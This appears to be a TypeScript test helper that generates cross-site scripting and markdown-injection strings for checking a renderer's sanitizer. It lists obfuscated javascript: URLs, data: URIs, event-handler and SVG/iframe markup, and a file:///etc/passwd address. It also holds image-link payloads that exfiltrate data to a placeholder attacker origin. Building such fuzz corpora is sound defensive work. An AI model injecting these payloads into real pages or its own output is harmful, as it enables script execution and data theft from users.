/**
 * Generates texts that mean harm: markup and addresses that run a script or send a request, in every place of markdown
 * where such a thing has got through in some widget. A request would go to `origin`, a script would call `run()`.
 */
export function harmfulTexts(origin: string): string[] {
  const addresses = ADDRESSES.map((address) => address.replaceAll('ORIGIN', origin));
  const markup = MARKUP.map((html) => html.replaceAll('ORIGIN', origin));
  return [
    ...addresses.flatMap((address) => ADDRESS_PLACES.map((place) => place.replaceAll('HERE', address))),
    ...markup.flatMap((html) => MARKUP_PLACES.map((place) => place.replaceAll('HERE', html))),
    ...EXFILTRATION.map((text) => text.replaceAll('ORIGIN', origin)),
  ];
}

const ADDRESSES = [
  'javascript:run()',
  'JaVaScRiPt:run()',
  '\u0001javascript:run()',
  ' javascript:run()',
  'java\tscript:run()',
  '&#106;avascript:run()',
  '&#x6A&#x61;vascript:run()',
  'javascript&colon;run()',
  'javascript&#58;run()',
  'javascript:%72un()',
  'javascript://example.com/%0Arun()',
  'vbscript:run()',
  'data:text/html,<script>run()</script>',
  'data:text/html;base64,PHNjcmlwdD5ydW4oKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="run()"/>',
  'blob:ORIGIN/1',
  'file:///etc/passwd',
  'view-source:javascript:run()',
  '//ORIGIN/x',
  'ORIGIN/x.png?secret',
  'ORIGIN/x.png" onerror="run()',
  "ORIGIN/x.png' onload='run()",
];

const ADDRESS_PLACES = [
  '[a](HERE)',
  '[a](<HERE>)',
  '[a](HERE "t")',
  '![a](HERE)',
  '![a](<HERE>)',
  '[![a](HERE)](HERE)',
  '<HERE>',
  'HERE',
  '[a][r]\n\n[r]: HERE',
  '![a][r]\n\n[r]: <HERE>',
  '| a |\n|---|\n| ![a](HERE) [a](HERE) |',
  '- > ![a](HERE)\n  > [a](HERE)',
];

const MARKUP = [
  '<script>run()</script>',
  '<script src="ORIGIN/x.js"></script>',
  '<img src=x onerror=run()>',
  '<img src="ORIGIN/x.png">',
  '<svg onload=run()>',
  '<svg><script>run()</script></svg>',
  '<svg><image href="ORIGIN/x.svg"></image></svg>',
  '<iframe src="javascript:run()"></iframe>',
  '<iframe srcdoc="<script>parent.run()</script>"></iframe>',
  '<object data="ORIGIN/x"></object>',
  '<embed src="ORIGIN/x">',
  '<link rel=stylesheet href="ORIGIN/x.css">',
  '<style>@import "ORIGIN/x.css";</style>',
  '<div style="background:url(ORIGIN/x.png)">',
  '<video src="ORIGIN/x.mp4" onerror=run()></video>',
  '<audio src="ORIGIN/x.mp3" autoplay></audio>',
  '<input autofocus onfocus=run()>',
  '<details open ontoggle=run()>x</details>',
  '<form action="javascript:run()"><button autofocus>x</button></form>',
  '<meta http-equiv=refresh content="0;url=javascript:run()">',
  '<base href="ORIGIN/">',
  '<math><mtext><table><mglyph><style><img src=x onerror=run()>',
  '<a href="javascript:run()" autofocus onfocus=run()>x</a>',
  '<br onmouseover=run()><br/onclick=run()>',
  '<template shadowrootmode=open><script>run()</script></template>',
  '</code></pre><img src=x onerror=run()>',
];

const MARKUP_PLACES = [
  'HERE',
  'text HERE text',
  '# HERE',
  '**HERE**',
  '`HERE`',
  '```HERE\nHERE\n```',
  '[HERE](https://example.com "HERE")',
  '![HERE](https://example.invalid/HERE)',
  '| HERE |\n|---|\n| HERE |',
  '- [ ] HERE\n\n  > HERE',
  '$HERE$ and \\(HERE\\)\n\n$$\nHERE\n$$',
  '[^1]: HERE\n[r]: https://example.com "HERE"\n\n[r]',
];

/** Harm without a script: whatever a page fetches by itself carries data away in its address. */
const EXFILTRATION = [
  '![](ORIGIN/a.png?data=secret)',
  '![x][leak]\n\n[leak]: ORIGIN/a.png?data=secret',
  '![x](ORIGIN/a.png "t"){onload=run()}',
  '![x](<ORIGIN/a b.png>)',
  '![x]( ORIGIN/a.png )',
  '![![x](ORIGIN/a.png)](ORIGIN/b.png)',
  '[![x](ORIGIN/a.png)][leak]\n\n[leak]: ORIGIN/b.png',
  '<ORIGIN/a.png>',
  'ORIGIN/a.png',
  '![x](ORIGIN/a.svg#run)',
  '![x](ORIGIN/a.png =1x1)',
  '[x]: ORIGIN/a.css\n\n[x]',
  '::: {style="background:url(ORIGIN/a.png)"}\nx\n:::',
  '[x](ORIGIN/a.png){ping=ORIGIN/b}',
  '@import url(ORIGIN/a.css);',
];
